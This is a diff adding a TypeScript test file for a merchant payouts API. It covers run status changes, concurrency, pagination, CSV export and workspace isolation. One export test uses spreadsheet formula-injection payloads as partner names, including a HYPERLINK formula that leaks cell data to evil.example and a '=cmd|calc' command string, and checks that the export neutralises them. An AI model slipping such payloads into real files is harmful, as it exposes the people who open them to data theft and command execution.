@@ -1,0 +1,446 @@
+import Papa from 'papaparse'
+import { describe, expect, inject, test } from 'vitest'
+import { newId } from '../../lib/data/ids.ts'
+import { errorShape, send, useDatabase } from '../support/merchant.ts'
+import { createOwing, lookAtLedger, type Owing } from '../support/runs.ts'
+
+const database = useDatabase()
+
+type Row = Record<string, unknown> & { id: string; status: string }
+type List = { data: Row[]; nextCursor: string | null }
+
+/** The manager's calls, with a run of the merchant. */
+const createRun = async () => {
+  const merchant = await createOwing()
+  const as = await merchant.asManager()
+  const id = await merchant.begin()
+  const path = `/payout-runs/${id}`
+  return {
+    merchant,
+    as,
+    id,
+    path,
+    to: (status: unknown) => as.patch(path, { status }),
+    ledger: () => lookAtLedger(database, merchant),
+    /** What was done with the run since it was begun. */
+    audit: async () =>
+      (await database.audit(merchant)).filter(
+        ({ action, subject_id }) => subject_id === id && action !== 'payout_run.begun',
+      ),
+    mails: () =>
+      database.query<{ recipient: string; details: Record<string, string> }>(
+        `select recipient, details from mails where workspace_id = $1 and kind = 'payout_sent' order by recipient`,
+        [merchant.workspace.id],
+      ),
+  }
+}
+
+const ALL = 817_050
+
+describe('GET /payouts and /payout-runs', () => {
+  test('show what a run pays to whom', async () => {
+    const { merchant, as, id } = await createRun()
+    const { data, nextCursor } = (await as.get('/payouts')).body as unknown as List
+    expect(nextCursor).toBeNull()
+    expect(data.map(({ amountCents }) => amountCents).sort()).toEqual([5_050, 812_000])
+    expect(data[0]).toEqual({
+      id: expect.any(String),
+      runId: id,
+      partnerId: expect.any(String),
+      programId: merchant.programId,
+      currency: 'USD',
+      amountCents: expect.any(Number),
+      status: 'processing',
+      method: 'manual',
+      createdAt: expect.any(String),
+      paidAt: null,
+      failedAt: null,
+      canceledAt: null,
+      lastError: null,
+      transferId: null,
+    })
+    expect((await as.get(`/payouts/${data[0]?.id}`)).body).toEqual(data[0])
+
+    const run = {
+      id,
+      method: 'manual',
+      programId: null,
+      status: 'processing',
+      createdBy: 'somebody@shop.example',
+      scheduledFor: null,
+      createdAt: expect.any(String),
+      claimedAt: expect.any(String),
+      markedPaidAt: null,
+      confirmedAt: null,
+      canceledAt: null,
+      totals: [{ currency: 'USD', status: 'processing', payouts: 2, amountCents: ALL }],
+    }
+    expect((await as.get(`/payout-runs/${id}`)).body).toEqual(run)
+    expect((await as.get('/payout-runs')).body).toEqual({ data: [run], nextCursor: null })
+  })
+
+  test('filter by run, partner and status, and go page by page', async () => {
+    const { merchant, as, id } = await createRun()
+    const empty = await merchant.begin()
+    const list = async (query: string) => (await as.get(`/payouts?${query}`)).body as unknown as List
+    const [first] = (await list('limit=1')).data
+    const rest = await list(`limit=1&cursor=${first?.id}`)
+    expect([rest.data.length, rest.nextCursor]).toEqual([1, null])
+    expect(rest.data[0]?.id).not.toBe(first?.id)
+
+    expect((await list(`runId=${id}`)).data).toHaveLength(2)
+    expect((await list(`runId=${empty}`)).data).toEqual([])
+    expect((await list(`partnerId=${first?.partnerId}`)).data).toEqual([first])
+    expect((await list('status=processing')).data).toHaveLength(2)
+    await as.patch(`/payout-runs/${id}`, { status: 'canceled' })
+    expect((await list('status=processing')).data).toEqual([])
+    expect((await list('status=canceled')).data).toHaveLength(2)
+    for (const query of ['status=sent', 'runId=x', 'partnerId=', 'limit=0']) {
+      expect(await as.get(`/payouts?${query}`)).toMatchObject({
+        status: 400,
+        body: errorShape('invalid_query'),
+      })
+    }
+    const runs = (await as.get('/payout-runs?limit=1')).body as unknown as List
+    expect(runs.data[0]).toMatchObject({ id: empty, totals: [] })
+    expect(((await as.get(`/payout-runs?cursor=${runs.nextCursor}`)).body as unknown as List).data).toEqual([
+      expect.objectContaining({ id }),
+    ])
+  })
+
+  test('a run by Stripe is paid once nothing of it is on its way, whatever has failed', async () => {
+    const merchant = await createOwing()
+    const as = await merchant.asManager()
+    const account = `acct_${newId().slice(-12)}`
+    await database.query(
+      `insert into payout_accounts (id, workspace_id, email, country, stripe_account_id, status, created_at)
+       select gen_random_uuid(), workspace_id, email, 'DE', $2 || slug, 'enabled', now() from partners
+       where workspace_id = $1`,
+      [merchant.workspace.id, account],
+    )
+    const id = await merchant.begin('stripe')
+    const run = async () => (await as.get(`/payout-runs/${id}`)).body
+    expect(await run()).toMatchObject({ method: 'stripe', status: 'processing' })
+    await database.query(
+      `update payouts set paid_at = now(), transfer_id = 'tr_' || id where run_id = $1 and amount_cents = 5050`,
+      [id],
+    )
+    expect((await run()).status).toBe('processing')
+    await database.query(
+      `with failed as (update payouts set failed_at = now(), last_error = 'The account was closed.'
+                       where run_id = $1 and amount_cents = 812000 returning id)
+       update commissions set payout_id = null from failed where payout_id = failed.id`,
+      [id],
+    )
+    expect(await run()).toMatchObject({
+      status: 'paid',
+      totals: [
+        { currency: 'USD', status: 'failed', payouts: 1, amountCents: 812_000 },
+        { currency: 'USD', status: 'paid', payouts: 1, amountCents: 5_050 },
+      ],
+    })
+    const [failed] = ((await as.get('/payouts?status=failed')).body as unknown as List).data
+    expect(failed).toMatchObject({ lastError: 'The account was closed.', failedAt: expect.any(String) })
+    for (const status of ['paid', 'processing', 'confirmed', 'canceled']) {
+      expect(await as.patch(`/payout-runs/${id}`, { status })).toMatchObject({ status: 409 })
+    }
+    expect(await as.get(`/payout-runs/${id}/export`)).toMatchObject({
+      status: 409,
+      body: errorShape('conflict'),
+    })
+    expect(await lookAtLedger(database, merchant)).toEqual({ paid: 5_050, payable: 812_000, violations: [] })
+  })
+})
+
+describe('PATCH /payout-runs/:id', () => {
+  const PAYABLE = { payable: ALL, violations: [] }
+  const ON_ITS_WAY = { processing: ALL, violations: [] }
+  const PAID = { paid: ALL, violations: [] }
+
+  test.each([
+    { steps: ['paid'], ends: PAID, mails: 0 },
+    { steps: ['paid', 'processing'], ends: ON_ITS_WAY, mails: 0 },
+    { steps: ['paid', 'processing', 'paid'], ends: PAID, mails: 0 },
+    { steps: ['paid', 'confirmed'], ends: PAID, mails: 2 },
+    { steps: ['paid', 'processing', 'canceled'], ends: PAYABLE, mails: 0 },
+    { steps: ['canceled'], ends: PAYABLE, mails: 0 },
+  ])('goes by $steps, and a repeat of each does nothing', async ({ steps, ends, mails }) => {
+    const run = await createRun()
+    for (const status of steps) {
+      for (let time = 0; time < 2; time++) {
+        const answer = await run.to(status)
+        expect(answer).toMatchObject({ status: 200, body: { id: run.id, status } })
+      }
+    }
+    expect(await run.ledger()).toEqual(ends)
+    expect(await run.mails()).toHaveLength(mails)
+    expect(await run.audit()).toHaveLength(steps.length)
+  })
+
+  test.each([
+    { from: [], to: 'confirmed', words: 'Mark this run as paid first' },
+    { from: ['paid'], to: 'canceled', words: 'Take that back first' },
+    { from: ['paid', 'confirmed'], to: 'processing', words: 'nothing of it can be changed' },
+    { from: ['paid', 'confirmed'], to: 'canceled', words: 'nothing of it can be changed' },
+    { from: ['paid', 'confirmed'], to: 'paid', words: 'nothing of it can be changed' },
+    { from: ['canceled'], to: 'paid', words: 'start another one' },
+    { from: ['canceled'], to: 'processing', words: 'start another one' },
+    { from: ['canceled'], to: 'confirmed', words: 'start another one' },
+  ])('after $from, $to is a conflict, and changes nothing', async ({ from, to, words }) => {
+    const run = await createRun()
+    for (const status of from) await run.to(status)
+    const before = await run.ledger()
+    const answer = await run.to(to)
+    expect(answer).toMatchObject({ status: 409, body: errorShape('conflict') })
+    expect(answer.body.error?.message).toContain(words)
+    expect(await run.ledger()).toEqual(before)
+    expect(await run.audit()).toHaveLength(from.length)
+  })
+
+  test('waits until the run has claimed all', async () => {
+    const merchant = await createOwing()
+    const as = await merchant.asManager()
+    const id = await merchant.begin('manual', { isClaimed: false })
+    for (const status of ['paid', 'canceled', 'confirmed']) {
+      const answer = await as.patch(`/payout-runs/${id}`, { status })
+      expect(answer).toMatchObject({ status: 409, body: errorShape('conflict') })
+      expect(answer.body.error?.message).toContain('still being put together')
+    }
+    expect((await as.patch(`/payout-runs/${id}`, { status: 'processing' })).status).toBe(200)
+    const file = await as.get(`/payout-runs/${id}/export`)
+    expect([file.status, file.body.error?.message]).toEqual([
+      409,
+      expect.stringContaining('still being put together'),
+    ])
+  })
+
+  test('tells the partners when it is confirmed, and not before', async () => {
+    const run = await createRun()
+    await run.to('paid')
+    expect(await run.mails()).toEqual([])
+    await run.to('confirmed')
+    const portalUrl = `${inject('baseUrl')}/portal`
+    const about = { programName: 'A program', method: 'manual', portalUrl }
+    expect(await run.mails()).toEqual([
+      { recipient: 'ann@partner.example', details: { ...about, partnerName: 'Ann', amount: '50.50 USD' } },
+      {
+        recipient: 'leo@partner.example',
+        details: { ...about, partnerName: 'Leo Okafor', amount: '8,120.00 USD' },
+      },
+    ])
+    expect(await run.audit()).toMatchObject([
+      { action: 'payout_run.marked_paid', subject_id: run.id, details: { payouts: 2 } },
+      { action: 'payout_run.confirmed', subject_id: run.id, details: { payouts: 2 } },
+    ])
+  })
+
+  test('what was canceled goes with the next run', async () => {
+    const run = await createRun()
+    await run.to('canceled')
+    const next = await run.merchant.begin()
+    const { body } = await run.as.get(`/payout-runs/${next}`)
+    expect(body.totals).toEqual([{ currency: 'USD', status: 'processing', payouts: 2, amountCents: ALL }])
+    expect(await run.ledger()).toEqual(ON_ITS_WAY)
+  })
+
+  test('an undo and a confirmation at once: one of them counts', async () => {
+    for (let round = 0; round < 4; round++) {
+      const run = await createRun()
+      await run.to('paid')
+      const answers = await Promise.all([run.to('processing'), run.to('confirmed'), run.to('processing')])
+      const [undone, confirmed] = answers.map(({ status }) => status)
+      expect([undone, confirmed]).toContain(409)
+      const isConfirmed = confirmed === 200
+      expect(await run.ledger()).toEqual(isConfirmed ? PAID : ON_ITS_WAY)
+      expect(await run.mails()).toHaveLength(isConfirmed ? 2 : 0)
+      expect((await run.audit()).map(({ action }) => action)).toEqual([
+        'payout_run.marked_paid',
+        isConfirmed ? 'payout_run.confirmed' : 'payout_run.unmarked',
+      ])
+    }
+  })
+
+  test('ten markings and ten cancelings at once do one thing once', async () => {
+    const run = await createRun()
+    const answers = await Promise.all(
+      Array.from({ length: 20 }, (_, index) => run.to(index % 2 ? 'paid' : 'canceled')),
+    )
+    expect(answers.filter(({ status }) => status === 200)).toHaveLength(10)
+    expect(answers.filter(({ status }) => status === 409)).toHaveLength(10)
+    expect(await run.audit()).toHaveLength(1)
+    expect((await run.ledger()).violations).toEqual([])
+  })
+
+  test.each([
+    {},
+    { status: 'sent' },
+    { status: null },
+    { status: ['paid'] },
+    { status: 'paid', force: true },
+  ])('refuses %j', async (body) => {
+    const merchant = await createOwing()
+    const as = await merchant.asManager()
+    const id = await merchant.begin()
+    expect(await as.patch(`/payout-runs/${id}`, body)).toMatchObject({
+      status: 400,
+      body: errorShape('invalid_body'),
+    })
+  })
+})
+
+describe('GET /payout-runs/:id/export', () => {
+  const download = (merchant: Owing, id: string) =>
+    send(`${inject('baseUrl')}/api/workspaces/${merchant.workspace.slug}/payout-runs/${id}/export`, {
+      headers: { Cookie: merchant.cookie },
+    })
+
+  test('is a CSV file of what is to be paid to whom', async () => {
+    const { merchant, id } = await createRun()
+    const { status, headers, body } = await download(merchant, id)
+    expect(status).toBe(200)
+    expect(headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present')
+    expect(headers.get('Content-Disposition')).toMatch(
+      /^attachment; filename="payouts-\d{4}-\d\d-\d\d-[0-9a-f]{12}\.csv"$/,
+    )
+    const lines = String(body.text).split('\r\n')
+    expect(lines[0]).toBe('payout id,partner name,e-mail,currency,amount,program,run')
+    expect(lines.slice(1).sort()).toEqual([
+      '',
+      expect.stringMatching(new RegExp(`^[0-9a-f-]{36},.*,USD,.*,A program,${id}$`)),
+      expect.stringMatching(/,(Ann,ann|Leo Okafor,leo)@partner\.example,USD,(50\.50|8120\.00),/),
+    ])
+  })
+
+  test('says what it says, and nothing that a spreadsheet would run', async () => {
+    const names = [
+      '=HYPERLINK("https://evil.example?"&A1,"Click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      'O’Neil, "The" Größe 🎉',
+      ' =1+1',
+      "'quoted'",
+    ]
+    const rows = names.map((name, index) => ({
+      email: `p${index}@partner.example`,
+      name,
+      slug: `p${index}`,
+      openingBalanceCents: 100 + index,
+    }))
+    const merchant = await createOwing(rows, { program: { name: '=cmd|calc' } })
+    // The import takes no such characters, but rows may come by other ways.
+    await database.query(
+      `update partners set name = E'\\t=1+1\\r\\n=2' where workspace_id = $1 and slug = 'p5'`,
+      [merchant.workspace.id],
+    )
+    const { body } = await download(merchant, await merchant.begin())
+    const { data } = Papa.parse<string[]>(String(body.text).trimEnd())
+    const shown = Object.fromEntries(data.slice(1).map((cells) => [cells[2], cells[1]]))
+    expect(shown).toEqual({
+      'p0@partner.example': `'${names[0]}`,
+      'p1@partner.example': "'+1+1",
+      'p2@partner.example': "'-2+3",
+      'p3@partner.example': "'@SUM(A1)",
+      'p4@partner.example': names[4],
+      'p5@partner.example': "'\t=1+1\r\n=2",
+      'p6@partner.example': "'quoted'",
+    })
+    expect(new Set(data.slice(1).map((cells) => cells[5]))).toEqual(new Set(["'=cmd|calc"]))
+    expect(
+      data
+        .slice(1)
+        .flat()
+        .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+    ).toEqual([])
+  })
+
+  test('amounts are written as their currency is', async () => {
+    const { merchant, id } = await createRun()
+    await database.query(
+      `with partner as (select * from partners where workspace_id = $1 and slug = 'ann')
+       insert into payouts (id, workspace_id, run_id, program_id, partner_id, currency, amount_cents, created_at,
+                            next_attempt_at)
+       select gen_random_uuid(), $1, $2, program_id, id, x.currency, 1234567, now(), now()
+       from partner, unnest(array['JPY', 'KWD', 'EUR']) as x(currency)`,
+      [merchant.workspace.id, id],
+    )
+    const { text } = (await download(merchant, id)).body
+    for (const amount of ['JPY,1234567', 'KWD,1234.567', 'EUR,12345.67'])
+      expect(text).toContain(`,${amount},`)
+  })
+
+  test('nothing is to be paid from a run that was canceled', async () => {
+    const { merchant, to, id } = await createRun()
+    await to('canceled')
+    expect(await download(merchant, id)).toMatchObject({ status: 409, body: errorShape('conflict') })
+  })
+})
+
+describe('a run of ten thousand payouts', () => {
+  const createLarge = async () => {
+    const merchant = await createOwing([])
+    const { workspace, programId } = merchant
+    const id = newId()
+    await database.query(
+      `insert into payout_runs (id, workspace_id, method, payable_by, created_by, created_at, claimed_at)
+       values ($1, $2, 'manual', now(), 'somebody@shop.example', now(), now())`,
+      [id, workspace.id],
+    )
+    await database.query(
+      `with partner as (
+         insert into partners (id, workspace_id, program_id, email, name, slug, slug_key)
+         select gen_random_uuid(), $1, $2, 'n' || n || '@partner.example', 'Number ' || n, 'n' || n, 'n' || n
+         from generate_series(1, 10000) n returning *
+       ), payout as (
+         insert into payouts (id, workspace_id, run_id, program_id, partner_id, currency, amount_cents, created_at,
+                              next_attempt_at)
+         select gen_random_uuid(), $1, $3, $2, id, 'USD', 1234, now(), now() from partner returning *
+       )
+       insert into commissions (id, workspace_id, program_id, partner_id, kind, amount_cents, currency, one_time,
+                                payable_at, created_at, payout_id)
+       select gen_random_uuid(), $1, $2, partner_id, 'opening_balance', 1234, 'USD', false, now(), now(), id
+       from payout`,
+      [workspace.id, programId, id],
+    )
+    return { merchant, as: await merchant.asManager(), id, path: `/payout-runs/${id}` }
+  }
+
+  test('is exported whole, marked paid, and confirmed', async () => {
+    const { merchant, as, path } = await createLarge()
+    const { body } = await as.get(`${path}/export`)
+    expect(String(body.text).trimEnd().split('\r\n')).toHaveLength(10_001)
+    for (const status of ['paid', 'confirmed']) {
+      expect(await as.patch(path, { status })).toMatchObject({ status: 200, body: { status } })
+    }
+    const [mails] = await database.query(
+      `select count(*)::int as mails from mails where workspace_id = $1 and kind = 'payout_sent'`,
+      [merchant.workspace.id],
+    )
+    expect(mails).toEqual({ mails: 10_000 })
+  })
+
+  test('is canceled', async () => {
+    const { merchant, as, path } = await createLarge()
+    expect(await as.patch(path, { status: 'canceled' })).toMatchObject({ status: 200 })
+    expect(await lookAtLedger(database, merchant)).toEqual({ payable: 12_340_000, violations: [] })
+  })
+})
+
+test('ids of another workspace are nobody’s', async () => {
+  const [ours, theirs] = await Promise.all([createRun(), createRun()])
+  const [payout] = ((await theirs.as.get('/payouts')).body as unknown as List).data
+  for (const id of [theirs.id, newId(), 'x', '%00']) {
+    for (const answer of [
+      await ours.as.get(`/payout-runs/${id}`),
+      await ours.as.get(`/payout-runs/${id}/export`),
+      await ours.as.patch(`/payout-runs/${id}`, { status: 'paid' }),
+    ]) {
+      expect(answer).toMatchObject({ status: 404, body: errorShape('not_found') })
+    }
+  }
+  expect((await ours.as.get(`/payouts/${payout?.id}`)).status).toBe(404)
+  for (const query of [`runId=${theirs.id}`, `partnerId=${payout?.partnerId}`]) {
+    expect(((await ours.as.get(`/payouts?${query}`)).body as unknown as List).data).toEqual([])
+  }
+  expect((await theirs.as.get(`/payout-runs/${theirs.id}`)).body.status).toBe('processing')
+})
